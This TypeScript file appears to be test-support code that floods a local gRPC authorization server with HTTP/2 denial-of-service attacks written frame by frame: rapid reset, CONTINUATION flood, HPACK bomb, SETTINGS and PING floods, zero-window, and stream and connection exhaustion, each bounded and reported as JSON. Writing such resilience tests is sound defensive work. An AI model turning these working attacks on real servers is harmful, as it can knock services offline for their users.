// HTTP/2 abuse against a gRPC server on 127.0.0.1, written frame by frame on
// raw TCP sockets so the attacks are exactly what they say (a well-behaved
// HTTP/2 client library would refuse to send most of them). Run as its own
// process by test/h2-abuse.test.ts, so the attack's CPU and event loop never
// delay the test's probe client:
//
//   node test/support/h2-attack.ts ATTACK PORT DURATION_MS
//
// Every attack is bounded in time (DURATION_MS) and in count, reconnects when
// the server closes a connection (as a real attacker would), and prints one
// JSON line: what was sent and what the server answered (GOAWAY codes,
// refused streams, connections it closed).
import * as net from 'node:net';
import { resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const T = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 } as const;
const F = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;
const S = { HEADER_TABLE_SIZE: 1, ENABLE_PUSH: 2, MAX_CONCURRENT_STREAMS: 3, INITIAL_WINDOW_SIZE: 4, MAX_FRAME_SIZE: 5, MAX_HEADER_LIST_SIZE: 6 } as const;
const CANCEL = 0x8;

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type;
  h[4] = flags;
  h.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([h, payload]);
}

function settings(params: Array<[number, number]> = []): Buffer {
  const p = Buffer.alloc(params.length * 6);
  params.forEach(([id, v], i) => {
    p.writeUInt16BE(id, i * 6);
    p.writeUInt32BE(v >>> 0, i * 6 + 2);
  });
  return frame(T.SETTINGS, 0, 0, p);
}

// HPACK (RFC 7541), just what the attacks need: integers, raw strings,
// literals without and with indexing, and indexed references.
function hpackInt(value: number, prefixBits: number, high: number): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [high | value];
  const out = [high | max];
  value -= max;
  while (value >= 128) {
    out.push((value & 0x7f) | 0x80);
    value = Math.floor(value / 128);
  }
  out.push(value);
  return out;
}
const str = (s: string): Buffer => Buffer.concat([Buffer.from(hpackInt(Buffer.byteLength(s), 7, 0)), Buffer.from(s)]);
/** Literal header field without indexing, new name. */
const literal = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0x00]), str(name), str(value)]);
/** Literal header field with incremental indexing, new name: it enters the dynamic table at index 62. */
const indexedLiteral = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0x40]), str(name), str(value)]);

const CHECK_PATH = '/envoy.service.auth.v3.Authorization/Check';
const grpcHeaders = (port: number): Buffer =>
  Buffer.concat([
    literal(':method', 'POST'),
    literal(':scheme', 'http'),
    literal(':path', CHECK_PATH),
    literal(':authority', `127.0.0.1:${port}`),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ]);
/** A gRPC message holding an empty CheckRequest: the server answers it with a CheckResponse. */
const EMPTY_CHECK = Buffer.from([0, 0, 0, 0, 0]);

interface Stats {
  attack: string;
  connections: number;
  framesSent: number;
  bytesSent: number;
  streamsOpened: number;
  /** Connections the server closed (FIN/RST) while the attack was on. */
  closedByServer: number;
  goaway: Record<string, number>;
  rstStreamFromServer: Record<string, number>;
  responsesHeaders: number;
  ms: number;
}

const stats: Stats = {
  attack: '',
  connections: 0,
  framesSent: 0,
  bytesSent: 0,
  streamsOpened: 0,
  closedByServer: 0,
  goaway: {},
  rstStreamFromServer: {},
  responsesHeaders: 0,
  ms: 0,
};
const bump = (m: Record<string, number>, k: string): void => void (m[k] = (m[k] ?? 0) + 1);
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

interface Conn {
  readonly socket: net.Socket;
  closed: boolean;
  /** Closes it from this side (not counted as closed by the server). */
  close(): void;
  /** Resolves when the server's first SETTINGS arrived (and was acknowledged). */
  readonly ready: Promise<void>;
  /** Writes, waiting (bounded) for the socket to drain: a server that stops reading cannot make this process buffer without bound. */
  send(buf: Buffer, frames?: number): Promise<void>;
  /** The server's SETTINGS_MAX_CONCURRENT_STREAMS (unlimited until it says). */
  maxConcurrentStreams: number;
  /** Stops reading the socket: the server's writes back up into the kernel and then into the server. */
  stopReading(): void;
}

/** A raw HTTP/2 connection: preface, our SETTINGS, SETTINGS ACKs for the server's, and a tally of what it sends. */
function connect(port: number, ourSettings: Array<[number, number]> = []): Conn {
  const socket = net.connect({ host: '127.0.0.1', port });
  socket.setNoDelay(true);
  stats.connections++;
  let buf: Buffer = Buffer.alloc(0);
  let readyResolve!: () => void;
  const ready = new Promise<void>((r) => (readyResolve = r));
  let reading = true;
  let ours = false;
  const conn: Conn = {
    socket,
    closed: false,
    maxConcurrentStreams: Infinity,
    close() {
      ours = true;
      socket.destroy();
    },
    ready,
    async send(b: Buffer, frames = 1) {
      if (conn.closed) return;
      stats.framesSent += frames;
      stats.bytesSent += b.length;
      if (!socket.write(b)) {
        await Promise.race([new Promise((r) => socket.once('drain', r)), sleep(200)]);
      }
    },
    stopReading() {
      reading = false;
      socket.pause();
      socket.removeAllListeners('data');
    },
  };
  socket.on('error', () => {});
  socket.on('close', () => {
    conn.closed = true;
    if (!ours) stats.closedByServer++;
    readyResolve();
  });
  socket.on('data', (d: Buffer) => {
    if (!reading) return;
    buf = buf.length ? Buffer.concat([buf, d]) : d;
    while (buf.length >= 9) {
      const len = buf.readUIntBE(0, 3);
      if (buf.length < 9 + len) break;
      const type = buf[3]!;
      const flags = buf[4]!;
      const payload = buf.subarray(9, 9 + len);
      buf = buf.subarray(9 + len);
      if (type === T.SETTINGS && !(flags & F.ACK)) {
        for (let o = 0; o + 6 <= payload.length; o += 6)
          if (payload.readUInt16BE(o) === S.MAX_CONCURRENT_STREAMS) conn.maxConcurrentStreams = payload.readUInt32BE(o + 2);
        socket.write(frame(T.SETTINGS, F.ACK, 0));
        readyResolve();
      } else if (type === T.GOAWAY) bump(stats.goaway, String(payload.readUInt32BE(4)));
      else if (type === T.RST_STREAM) bump(stats.rstStreamFromServer, String(payload.readUInt32BE(0)));
      else if (type === T.HEADERS) stats.responsesHeaders++;
    }
  });
  socket.write(Buffer.concat([PREFACE, settings(ourSettings)]));
  return conn;
}

/**
 * Runs `body` on a connection, and on a new one whenever the server closes
 * it, until the deadline or `maxConnections`.
 */
async function persist(deadline: number, maxConnections: number, open: () => Conn, body: (c: Conn) => Promise<void>): Promise<void> {
  for (let i = 0; i < maxConnections && Date.now() < deadline; i++) {
    const c = open();
    await Promise.race([c.ready, sleep(1000)]);
    if (!c.closed) await body(c);
    c.close();
    await sleep(10);
  }
}

const yieldNow = (): Promise<void> => new Promise((r) => setImmediate(r));

type Attack = (port: number, deadline: number) => Promise<void>;

const attacks: Record<string, Attack> = {
  /** CVE-2023-44487: HEADERS then RST_STREAM(CANCEL), stream after stream, never waiting for an answer. */
  'rapid-reset': (port, deadline) =>
    persist(
      deadline,
      50,
      () => connect(port),
      async (c) => {
        const headers = grpcHeaders(port);
        for (let id = 1; id < 2 ** 31 - 2 && !c.closed && Date.now() < deadline; ) {
          const batch: Buffer[] = [];
          for (let i = 0; i < 200; i++, id += 2)
            batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers), frame(T.RST_STREAM, 0, id, Buffer.from([0, 0, 0, CANCEL])));
          stats.streamsOpened += 200;
          await c.send(Buffer.concat(batch), 400);
          await yieldNow();
        }
      },
    ),

  /** CONTINUATION flood (CVE-2024-27983 and kin): one header block that never ends, 16 KiB CONTINUATION frames of fresh headers. */
  'continuation-flood': (port, deadline) =>
    persist(
      deadline,
      50,
      () => connect(port),
      async (c) => {
        let id = 1;
        while (!c.closed && Date.now() < deadline) {
          await c.send(frame(T.HEADERS, 0, id, grpcHeaders(port)));
          stats.streamsOpened++;
          for (let n = 0; n < 64 * 1024 && !c.closed && Date.now() < deadline; ) {
            const batch: Buffer[] = [];
            for (let i = 0; i < 16; i++, n++) {
              const parts: Buffer[] = [];
              for (let k = 0; k < 15; k++) parts.push(literal(`x-flood-${n}-${k}`, 'v'.repeat(1000)));
              batch.push(frame(T.CONTINUATION, 0, id, Buffer.concat(parts)));
            }
            await c.send(Buffer.concat(batch), 16);
            await yieldNow();
          }
          id += 2;
        }
      },
    ),

  /**
   * HPACK bomb: SETTINGS_HEADER_TABLE_SIZE at its maximum, then header blocks
   * that put one 4000-byte header in the dynamic table and refer to it 4000
   * times: 8 KiB on the wire, 16 MB of headers decoded, per stream.
   */
  'hpack-bomb': (port, deadline) =>
    persist(
      deadline,
      50,
      () =>
        connect(port, [
          [S.HEADER_TABLE_SIZE, 0xffffffff],
          [S.MAX_HEADER_LIST_SIZE, 0xffffffff],
        ]),
      async (c) => {
        const block = Buffer.concat([grpcHeaders(port), indexedLiteral('x-bomb', 'b'.repeat(4000)), Buffer.alloc(4000, 0x80 | 62)]);
        for (let id = 1; !c.closed && Date.now() < deadline; ) {
          const batch: Buffer[] = [];
          for (let i = 0; i < 8; i++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, block), frame(T.DATA, F.END_STREAM, id, EMPTY_CHECK));
          stats.streamsOpened += 8;
          await c.send(Buffer.concat(batch), 16);
          await yieldNow();
        }
      },
    ),

  /** SETTINGS flood: SETTINGS frames as fast as they go while never reading the ACKs the server owes. */
  'settings-flood': (port, deadline) =>
    persist(
      deadline,
      50,
      () => connect(port),
      async (c) => {
        c.stopReading();
        const one = settings([
          [S.INITIAL_WINDOW_SIZE, 65535],
          [S.MAX_FRAME_SIZE, 16384],
          [S.ENABLE_PUSH, 0],
        ]);
        const batch = Buffer.concat(Array.from({ length: 1000 }, () => one));
        while (!c.closed && Date.now() < deadline) {
          await c.send(batch, 1000);
          await yieldNow();
        }
      },
    ),

  /** PING flood: PINGs as fast as they go while never reading the PING ACKs. */
  'ping-flood': (port, deadline) =>
    persist(
      deadline,
      50,
      () => connect(port),
      async (c) => {
        c.stopReading();
        const batch = Buffer.concat(Array.from({ length: 1000 }, (_, i) => frame(T.PING, 0, 0, Buffer.alloc(8, i & 0xff))));
        while (!c.closed && Date.now() < deadline) {
          await c.send(batch, 1000);
          await yieldNow();
        }
      },
    ),

  /**
   * Zero window: SETTINGS_INITIAL_WINDOW_SIZE=0 and never a WINDOW_UPDATE, so
   * no answer can be sent, on 50 connections each holding as many complete
   * Checks as the server allows at once (up to 1000: more and the server
   * could just close it for the protocol error). The server must keep only
   * what it allows, and answer others. The connections fill one every 50 ms
   * (2,000 Checks/s): the attack is the answers held, not a burst of 5,000
   * Checks at once, which is a capacity question (Node 24 then keeps a probe
   * waiting about 1 s behind the burst, Bun about 0.7 s).
   */
  'zero-window': async (port, deadline) => {
    const conns = Array.from({ length: 50 }, () => connect(port, [[S.INITIAL_WINDOW_SIZE, 0]]));
    await Promise.all(conns.map((c) => Promise.race([c.ready, sleep(1000)])));
    const headers = grpcHeaders(port);
    for (const c of conns) {
      const limit = Math.min(c.maxConcurrentStreams, 1000);
      const batch: Buffer[] = [];
      for (let k = 0, id = 1; k < limit; k++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers), frame(T.DATA, F.END_STREAM, id, EMPTY_CHECK));
      stats.streamsOpened += limit;
      await c.send(Buffer.concat(batch), 2 * limit);
      await sleep(50);
    }
    while (Date.now() < deadline) await sleep(50);
    for (const c of conns) c.close();
  },

  /** A reader that never reads: complete Checks pipelined on a socket whose answers are never read. */
  'never-reads': (port, deadline) =>
    persist(
      deadline,
      50,
      () => connect(port),
      async (c) => {
        c.stopReading();
        const headers = grpcHeaders(port);
        for (let id = 1; !c.closed && Date.now() < deadline && id < 2 ** 31 - 400; ) {
          const batch: Buffer[] = [];
          for (let k = 0; k < 100; k++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers), frame(T.DATA, F.END_STREAM, id, EMPTY_CHECK));
          stats.streamsOpened += 100;
          await c.send(Buffer.concat(batch), 200);
          await sleep(1);
        }
      },
    ),

  /** Many streams on one connection, far beyond any sensible concurrency: each a request that never sends its message. */
  'many-streams': (port, deadline) =>
    persist(
      deadline,
      20,
      () => connect(port),
      async (c) => {
        const headers = grpcHeaders(port);
        for (let id = 1; !c.closed && Date.now() < deadline && stats.streamsOpened < 200_000; ) {
          const batch: Buffer[] = [];
          for (let k = 0; k < 500; k++, id += 2) batch.push(frame(T.HEADERS, F.END_HEADERS, id, headers));
          stats.streamsOpened += 500;
          await c.send(Buffer.concat(batch), 500);
          await yieldNow();
        }
        // Hold the connection (and whatever streams the server kept) for the rest of the time.
        while (!c.closed && Date.now() < deadline) await sleep(50);
      },
    ),

  /** 500 connections held open at once, each with a request stream that never sends its message. */
  'many-connections': async (port, deadline) => {
    const conns: Conn[] = [];
    const headers = grpcHeaders(port);
    for (let i = 0; i < 500 && Date.now() < deadline; i++) {
      const c = connect(port);
      conns.push(c);
      void c.ready.then(() => c.send(frame(T.HEADERS, F.END_HEADERS, 1, headers)));
      stats.streamsOpened++;
      if (i % 25 === 24) await sleep(5);
    }
    while (Date.now() < deadline) await sleep(50);
    for (const c of conns) c.close();
  },
};

export const ATTACKS = Object.keys(attacks);

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const [name, port, ms] = process.argv.slice(2);
  const attack = attacks[name!];
  if (!attack) {
    console.error(`unknown attack ${name}; one of ${ATTACKS.join(', ')}`);
    process.exit(2);
  }
  stats.attack = name!;
  const start = Date.now();
  await attack(Number(port), start + Number(ms));
  stats.ms = Date.now() - start;
  console.log(JSON.stringify(stats));
  process.exit(0);
}
